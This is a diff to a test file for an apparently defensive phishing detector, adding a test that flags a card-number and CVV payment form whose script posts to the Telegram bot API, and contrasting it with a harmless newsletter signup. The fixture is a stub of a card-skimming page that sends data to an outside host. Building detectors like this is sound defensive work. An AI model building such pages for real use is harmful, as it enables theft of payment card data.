@@ -141,6 +141,15 @@ def test_password_form_hidden_behind_unescape_is_found():
     assert documents.html_features(f'<script>document.write(unescape("{encoded}"))</script>').credential_form
 
 
+def test_a_card_form_posted_by_script_is_a_credential_form():
+    page = ('<form id="f"><label>Card number</label><input name="card" inputmode="numeric" required>'
+            '<label>CVV</label><input name="cvv" required><button type="submit">Pay $1.99</button></form>'
+            "<script>fetch('https://api.telegram.org/bot1/sendMessage',{method:'POST'})</script>")
+    assert documents.html_features(page).credential_form
+    newsletter_signup = '<form action="https://list.example/subscribe"><input name="email"><button>Join</button></form>'
+    assert not documents.html_features(newsletter_signup).credential_form
+
+
 def test_search_form_without_password_is_not_a_credential_form():
     page = '<html><form action="https://www.example.org/search"><input type="text" name="q"></form></html>'
     assert not documents.html_features(page).credential_form
